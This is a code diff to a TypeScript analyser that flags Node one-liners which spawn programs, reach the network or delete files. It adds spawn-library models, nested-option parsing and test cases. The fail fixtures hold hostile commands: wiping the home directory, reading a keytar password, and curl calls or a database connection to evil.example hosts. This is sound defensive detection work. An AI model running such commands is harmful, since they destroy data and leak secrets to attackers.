@@ -58,6 +58,10 @@ const APIS = new Map<string, Spec>([
   ['execa.execaCommandSync', { shell: 0 }],
   ['execa.command', { shell: 0 }],
   ['shelljs.exec', { shell: 0 }],
+  // spawn's stand-ins: cross-spawn (as spawn), tinyexec and nano-spawn (a program and its argv), child-process-promise.
+  ...['cross-spawn', 'cross-spawn.spawn', 'cross-spawn.sync', 'cross-spawn.spawnSync', 'child-process-promise.spawn'].map((n): [string, Spec] => [n, { exec: 0, argv: 1, shell: 'shell' }]),
+  ...['tinyexec.x', 'tinyexec.exec', 'nano-spawn', 'child-process-promise.execFile'].map((n): [string, Spec] => [n, { exec: 0, argv: 1 }]),
+  ['child-process-promise.exec', { shell: 0 }],
   ['eval', CODE],
   ['vm.runInThisContext', CODE],
   ['vm.runInNewContext', CODE],
@@ -156,7 +160,8 @@ const BUILTINS = /^(?:node:.*|fs|fs\/promises|path|os|child_process|http|https|h
 
 /** A member of a function that runs something (`execSync.bind`), other than `.call`/`.apply`, which are read through. */
 function runMember(name: string): string | undefined {
-  if (/\.(call|apply)$/.test(name)) return undefined;
+  // A member modelled itself (`cross-spawn.sync`, `execa.execaSync`) is read as such.
+  if (/\.(call|apply)$/.test(name) || APIS.has(name)) return undefined;
   for (let i = name.lastIndexOf('.'); i > 0; i = name.lastIndexOf('.', i - 1)) {
     const prefix = name.slice(0, i);
     if (runsSomething(prefix) && APIS.has(prefix)) return prefix;
@@ -499,6 +504,33 @@ class JavaScriptReader {
     return call;
   }
 
+  /**
+   * The call with the options nested in its object arguments as well (`knex({ connection: { host } })`,
+   * `new PrismaClient({ datasources: { db: { url } } })`), where a key not written at the top is the innermost one.
+   */
+  private deepCall(n: Node, c: Call): Call {
+    const list = fieldOf(n, 'arguments');
+    if (!list || list.type === 'template_string') return c;
+    const kw = new Map(c.kw);
+    const args = [...c.args];
+    for (const p of list.descendantsOfType('pair')) {
+      if (!p || p.parent?.parent?.id === list.id) continue;
+      // Values handed on, not reached: a child's environment, headers, labels.
+      let inner = false;
+      for (let up = p.parent?.parent; up && up.id !== list.id; up = up.parent?.parent) {
+        if (up.type === 'pair' && /^['"]?(?:env|environment|headers|labels|metadata|tags)['"]?$/.test(fieldOf(up, 'key')?.text ?? '')) inner = true;
+      }
+      if (inner) continue;
+      const key = fieldOf(p, 'key');
+      const value = fieldOf(p, 'value');
+      if (!key || !value || value.type === 'object') continue;
+      const k = key.type === 'property_identifier' ? key.text : strings(this.b.value(key))?.[0];
+      if (k !== undefined && !kw.has(k)) kw.set(k, this.arg(value));
+      else args.push(this.arg(value));
+    }
+    return kw.size === c.kw.size && args.length === c.args.length ? c : { ...c, kw, args };
+  }
+
   /** What the callee of a call resolves to, with `.call` and `.apply` read through (`exec.call(null, cmd)`). */
   private callee(n: Node): { vals: Vals; shift: 'call' | 'apply' | undefined } {
     const fn = fieldOf(n, n.type === 'new_expression' ? 'constructor' : 'function');
@@ -680,7 +712,7 @@ class JavaScriptReader {
       if (v.k === 'any' && !tagged && fn?.type === 'member_expression') {
         // A method of a value the model does not know (`simpleGit().clone(url)`, `client.query("postgres://…")`).
         const prop = fieldOf(fn, 'property');
-        if (prop?.type === 'property_identifier' || prop?.type === 'private_property_identifier') this.out.push(...urlsHandedTo(this.callOf(n, `.${prop.text}`), prop.text));
+        if (prop?.type === 'property_identifier' || prop?.type === 'private_property_identifier') this.out.push(...urlsHandedTo(this.deepCall(n, this.callOf(n, `.${prop.text}`)), prop.text));
       }
       if (v.k !== 'ref') continue;
       const name = v.name;
@@ -746,7 +778,7 @@ class JavaScriptReader {
       const spec = lookupApi(APIS, name);
       if (spec) this.out.push(...apply(spec, c));
       // A URL handed to a library: a network API, or one that runs a program, is judged as such instead.
-      else if (!isNetwork(name)) this.out.push(...urlsHanded(c, URL_LOOKERS.test(name)));
+      else if (!isNetwork(name)) this.out.push(...urlsHanded(this.deepCall(n, c), URL_LOOKERS.test(name)));
     }
     // `globalThis[x]()`, `require("child_process")[x]()`: a member of a module chosen at run time.
     if (fn?.type === 'subscript_expression') this.computedMember(fn);
@@ -981,6 +1013,10 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e "require('shelljs').rm('-rf', require('os').homedir())"`,
       `node -e "require('del').deleteSync([require('os').homedir() + '/**'], {force: true})"`,
       `node -e "require('keytar').getPassword('svc', 'user').then(console.log)"`,
+      `node -e "require('cross-spawn').sync('curl', ['evil.example'])"`,
+      `node -e "require('tinyexec').x('curl', ['evil.example'])"`,
+      `node -e "require('child-process-promise').exec('curl evil.example')"`,
+      `node -e "const db = require('knex')({client: 'pg', connection: {host: 'db.evil.example'}}); db.raw('select 1')"`,
     ],
     pass: [
       `node -e 'require("fs").rmSync("dist", { recursive: true, force: true })'`,
@@ -1017,6 +1053,10 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e "require('rimraf').sync('node_modules')"`,
       `node -e "require('shelljs').rm('-rf', 'dist')"`,
       `node -e "require('del').deleteSync(['dist', 'build'])"`,
+      `node -e "require('cross-spawn').sync('npm', ['test'], {stdio: 'inherit'})"`,
+      `node -e "require('tinyexec').x('npm', ['test'])"`,
+      `node -e "const db = require('knex')({client: 'pg', connection: {host: '127.0.0.1'}}); db.raw('select 1')"`,
+      `node -e "require('cross-spawn')('npm', ['test'], {env: {API_URL: 'https://api.example.com'}})"`,
     ],
   },
 };
